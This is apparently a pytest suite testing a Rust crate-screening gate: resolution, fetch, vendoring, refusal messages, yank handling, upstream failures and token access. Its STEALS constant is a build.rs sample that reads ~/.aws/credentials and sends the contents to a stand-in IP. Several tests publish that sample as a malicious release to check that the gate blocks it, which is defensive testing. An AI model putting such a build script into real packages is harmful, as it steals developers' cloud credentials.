"""What a real cargo makes of the gate: exit code and printed text of every way through it."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from analyzer.config import RegistryAccess
from gate import probe
from gate.settings import Mount

if TYPE_CHECKING:
    from tests.gate.conftest import Live
    from tests.unit.registry.conftest import Servers

pytestmark = pytest.mark.cargo

STEALS = """use std::io::Write;
fn main() {
    let key = std::fs::read("/home/u/.aws/credentials").unwrap();
    let mut to = std::net::TcpStream::connect("198.51.100.7:443").unwrap();
    to.write_all(&key).unwrap();
}
"""
LATER, LATEST = "2025-02-01T00:00:00Z", "2025-03-01T00:00:00Z"
Make = Callable[..., "Live"]


def locked(folder: Path) -> dict[str, str]:
    text = (folder / "Cargo.lock").read_text()
    return dict(re.findall(r'name = "([^"]+)"\nversion = "([^"]+)"', text))


def test_resolve_fetch_build_and_vendor(live: Live, tmp_path: Path) -> None:
    live.publish("base-lib", "1.0.0")
    edge = {
        "name": "base-lib",
        "req": "^1",
        "features": [],
        "optional": False,
        "default_features": True,
        "target": None,
        "kind": "normal",
    }
    manifest = (
        '[package]\nname = "Upper_lib"\nversion = "1.2.0"\nedition = "2021"\n'
        '[dependencies]\nbase-lib = "1"\n'
    )
    live.publish("Upper_lib", "1.2.0", {"Cargo.toml": manifest}, deps=[edge])
    folder = live.project(tmp_path / "p", 'Upper_lib = "1"')
    for command in (
        ["generate-lockfile"],
        ["fetch", "--locked"],
        ["build", "--locked"],
        ["vendor", "--respect-source-config"],
    ):
        done = live.cargo(folder, *command)
        assert done.returncode == 0, done.stderr
    assert locked(folder) == {"Upper_lib": "1.2.0", "asks": "0.1.0", "base-lib": "1.0.0"}
    assert (
        "registry+https://github.com/rust-lang/crates.io-index"
        in (folder / "Cargo.lock").read_text()
    )
    assert (folder / "vendor/base-lib/src/lib.rs").exists()


def test_install_and_info(live: Live, tmp_path: Path) -> None:
    live.publish("tool-bin", "1.0.0", {"src/main.rs": "fn main() {}", "src/lib.rs": ""})
    root = tmp_path / "root"
    done = live.cargo(tmp_path, "install", "tool-bin", "--root", str(root))
    assert done.returncode == 0, done.stderr
    assert (root / "bin/tool-bin").exists()
    told = live.cargo(tmp_path, "info", "--registry", "gate", "tool-bin")
    assert told.returncode == 0, told.stderr
    assert "version: 1.0.0" in told.stdout


def test_a_refused_version_is_explained_and_the_printed_command_helps(
    live: Live, tmp_path: Path
) -> None:
    live.publish("turned", "1.0.0")
    sha256 = live.publish("turned", "1.0.1", {"build.rs": STEALS}, pubtime=LATER)
    folder = live.project(tmp_path / "p", 'turned = "1"')
    assert live.cargo(folder, "generate-lockfile").returncode == 0
    assert locked(folder)["turned"] == "1.0.1"
    done = live.cargo(folder, "fetch", "--locked")
    assert done.returncode == 101
    assert "got 403" in done.stderr
    assert "cratescope gate: DENIED turned 1.0.1: BLOCK" in done.stderr
    printed = re.search(r"cargo (update \S+ --precise \S+)", done.stderr)
    assert printed is not None
    mended = live.cargo(folder, *printed[1].split(), CARGO_HTTP_MULTIPLEXING="false")
    assert mended.returncode == 0, mended.stderr
    assert live.cargo(folder, "fetch", "--locked").returncode == 0
    assert live.archive("turned", "1.0.1", sha256).status == 403


def test_the_resolver_steps_back_from_what_is_held(live: Live, tmp_path: Path) -> None:
    live.publish("stepback", "1.0.0")
    sha256 = live.publish("stepback", "1.0.1", {"build.rs": STEALS}, pubtime=LATER)
    assert live.archive("stepback", "1.0.1", sha256).status == 403
    folder = live.project(tmp_path / "p", 'stepback = "1"')
    done = live.cargo(folder, "fetch")
    assert done.returncode == 0, done.stderr
    assert locked(folder)["stepback"] == "1.0.0"
    exact = live.project(tmp_path / "q", 'stepback = "=1.0.1"')
    refused = live.cargo(exact, "fetch")
    assert refused.returncode == 101
    assert "version 1.0.1 is yanked" in refused.stderr


def test_update_takes_a_good_release_and_passes_over_a_bad_one(live: Live, tmp_path: Path) -> None:
    live.publish("moving", "1.0.0")
    folder = live.project(tmp_path / "p", 'moving = "1"')
    assert live.cargo(folder, "fetch").returncode == 0
    live.publish("moving", "1.1.0", pubtime=LATER)
    bad = live.publish("moving", "1.2.0", {"build.rs": STEALS}, pubtime=LATEST)
    assert live.archive("moving", "1.2.0", bad).status == 403
    done = live.cargo(folder, "update")
    assert done.returncode == 0, done.stderr
    assert locked(folder)["moving"] == "1.1.0"


def test_add_finds_a_crate_and_a_hidden_one_is_no_crate(make: Make, tmp_path: Path) -> None:
    one = make(internal=frozenset({"our-own"}))
    one.publish("public-one", "1.0.0")
    one.publish("our-own", "9.9.9")
    folder = one.project(tmp_path / "p")
    assert one.cargo(folder, "add", "public-one").returncode == 0
    done = one.cargo(folder, "add", "our-own")
    assert done.returncode == 101
    assert "could not be found" in done.stderr


def test_the_denied_example_shows_what_a_refusal_looks_like(live: Live, tmp_path: Path) -> None:
    folder = live.project(tmp_path / "p")
    assert live.cargo(folder, "add", probe.NAME).returncode == 0
    done = live.cargo(folder, "fetch")
    assert done.returncode == 101
    assert "this example is denied by every gate" in done.stderr


def test_a_crate_that_is_still_being_read_comes_after_a_retry(make: Make, tmp_path: Path) -> None:
    one = make(wait_s=0.0)
    one.publish("patience", "1.0.0")
    folder = one.project(tmp_path / "p", 'patience = "1"')
    done = one.cargo(folder, "fetch")
    assert done.returncode == 0, done.stderr
    assert "reading patience@1.0.0" in done.stderr
    assert "tries remaining" in done.stderr


def test_a_locked_project_needs_no_index_and_works_offline_afterwards(
    live: Live, tmp_path: Path
) -> None:
    live.publish("stable", "1.0.0")
    folder = live.project(tmp_path / "p", 'stable = "1"')
    assert live.cargo(folder, "fetch").returncode == 0
    assert live.cargo(folder, "build", "--locked", "--offline").returncode == 0


def test_an_upstream_that_is_down_is_no_missing_crate(make: Make, tmp_path: Path) -> None:
    one = make()
    one.upstream.say("/go/ne/gone-away", 502, times=99)
    folder = one.project(tmp_path / "p", 'gone-away = "1"')
    done = one.cargo(folder, "fetch", CARGO_NET_RETRY="0")
    assert done.returncode == 101
    assert "got 503" in done.stderr
    assert "cratescope gate: 127.0.0.1: status 502" in done.stderr
    assert "no matching package" not in done.stderr


def test_a_lying_upstream_never_gets_through(make: Make, tmp_path: Path) -> None:
    one = make()
    one.publish("liar", "1.0.0")
    one.upstream.files["/dl/liar/1.0.0/download"] += b"x"
    folder = one.project(tmp_path / "p", 'liar = "1"')
    done = one.cargo(folder, "fetch", CARGO_NET_RETRY="0")
    assert done.returncode == 101
    assert "bytes are not those of its index" in done.stderr


def test_unknown_fields_of_an_index_reach_cargo(live: Live, tmp_path: Path) -> None:
    live.publish("zukunft", "1.0.0", v=2, unknown={"a": [1]}, features2={"extra": []}, links=None)
    folder = live.project(tmp_path / "p", 'zukunft = { version = "1", features = ["extra"] }')
    manifest = (
        '[package]\nname = "zukunft"\nversion = "1.0.0"\nedition = "2021"\n[features]\nextra = []\n'
    )
    live.upstream.files["/zu/ku/zukunft"] = b""
    live.publish(
        "zukunft",
        "1.0.0",
        {"Cargo.toml": manifest},
        v=2,
        unknown={"a": [1]},
        features2={"extra": []},
    )
    done = live.cargo(folder, "build")
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(
    "odd",
    [
        '"yanked": null',
        '"yanked": false',
        r'"\u0079anked": false',
        '"links": null',
        '"yanked":false ,  "pubtime":"2025-01-01T00:00:00Z"',
    ],
)
def test_after_our_edit_cargo_sees_a_version_as_yanked(
    live: Live, tmp_path: Path, odd: str
) -> None:
    from gate.lines import yanked

    name = f"edit{abs(hash(odd)) % 10**8}"
    sha256 = live.publish(name, "1.0.0")
    row = json.loads(live.upstream.files[f"/ed/it/{name}"])
    row.pop("yanked")
    row.pop("pubtime")
    raw = json.dumps(row)[:-1] + f", {odd}}}"
    live.upstream.files[f"/ed/it/{name}"] = yanked(raw.encode()) + b"\n"
    folder = live.project(tmp_path / "p", f'{name} = "1"')
    done = live.cargo(folder, "fetch")
    assert done.returncode == 101
    assert "version 1.0.0 is yanked" in done.stderr
    assert sha256


def test_two_upstreams_are_never_merged(make: Make, servers: Servers) -> None:
    own = servers.start()
    other = Mount("own", RegistryAccess(own.url), frozenset({"127.0.0.1"}))
    one = make(more_mounts=(other,))
    own_sha256 = own.publish("shared-name", "1.0.0", pubtime=LATER)
    one.publish("shared-name", "99.0.0")
    assert [row["vers"] for row in one.index("shared-name")] == ["99.0.0"]
    answer = one.get("registries/own/index/sh/ar/shared-name")
    assert json.loads(answer.body)["vers"] == "1.0.0"
    assert one.get(f"crates/shared-name/1.0.0/{own_sha256}.crate").status == 404
    dl = json.loads(one.get("registries/own/index/config.json").body)["dl"]
    assert dl.startswith(f"{one.url}registries/own/crates/")


# Tokens -----------------------------------------------------------------------------------------


def test_with_tokens_cargo_is_asked_for_one_and_gets_in(make: Make, tmp_path: Path) -> None:
    one = make(needs_token=True)
    one.publish("closed-one", "1.0.0")
    folder = one.project(tmp_path / "p", 'closed-one = "1"')
    refused = one.cargo(folder, "fetch")
    assert refused.returncode == 101
    assert "token" in refused.stderr
    text = one.gate.people.make_token("ci", "read", "ann")
    one.gate.auth.refresh()
    config = one.home / "config.toml"
    config.write_text(config.read_text() + 'credential-provider = ["cargo:token"]\n')
    wrong = one.cargo(folder, "fetch", CARGO_REGISTRIES_GATE_TOKEN="csg_wrong")
    assert wrong.returncode == 101
    done = one.cargo(folder, "fetch", CARGO_REGISTRIES_GATE_TOKEN=text)
    assert done.returncode == 0, done.stderr
    built = one.cargo(folder, "build", CARGO_REGISTRIES_GATE_TOKEN=text)
    assert built.returncode == 0, built.stderr
